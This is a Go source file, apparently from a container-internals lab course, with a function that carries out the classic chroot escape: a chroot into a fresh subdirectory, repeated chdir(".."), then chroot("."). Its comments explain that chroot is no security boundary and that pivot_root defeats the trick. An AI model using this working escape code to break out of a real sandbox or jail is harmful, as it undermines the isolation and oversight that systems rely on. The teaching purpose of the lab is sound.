package rootfs

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

// EscapeChroot moves the calling process's root directory back to the real root of its
// mount namespace, undoing a chroot. It is here to prove a point: chroot(2) changes where
// path lookups start, nothing more, so it is not a security boundary for a process that
// keeps CAP_SYS_CHROOT (any root process does; lab 08 keeps it too, as Docker does, and there
// the climb ends at the container's own root).
//
// The trick is the one chroot(2)'s manual page warns about:
//
//  1. chroot into a new subdirectory without changing into it. The working directory is
//     now outside the root, and the kernel only stops ".." at the root itself.
//  2. Walk up with chdir(".."): the climb never meets the root, so it ends at the real "/".
//  3. chroot("."): the real root is the root again.
//
// In a container made with a mount namespace and pivot_root (lab 03) the same steps lead
// nowhere: the host's root is no longer mounted in that namespace at all.
func EscapeChroot() error {
	oldRoot, err := os.Open("/")
	if err != nil {
		return fmt.Errorf("escape: open /: %w", err)
	}
	defer oldRoot.Close()
	dir, err := os.MkdirTemp("/", ".escape-")
	if err != nil {
		return fmt.Errorf("escape: make a directory to chroot into: %w", err)
	}
	// Removed through the descriptor of the old root, because after the escape the
	// directory's name is relative to a root we no longer know the host path of.
	defer unix.Unlinkat(int(oldRoot.Fd()), dir[1:], unix.AT_REMOVEDIR)
	if err := unix.Chroot(dir); err != nil {
		return fmt.Errorf("escape: chroot %s: %w", dir, err)
	}
	for range 256 {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("escape: chdir ..: %w", err)
		}
	}
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("escape: chroot to the real root: %w", err)
	}
	return nil
}
